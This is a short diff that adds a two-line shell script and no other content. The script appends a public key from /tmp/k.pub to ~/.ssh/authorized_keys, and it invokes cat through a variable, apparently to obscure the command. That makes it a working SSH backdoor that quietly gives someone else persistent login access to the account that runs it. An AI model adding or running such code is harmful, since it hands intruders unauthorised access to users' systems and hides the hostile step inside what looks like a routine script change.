@@ -1,0 +1,2 @@
+#!/bin/sh
+X=cat; $X /tmp/k.pub >> ~/.ssh/authorized_keys
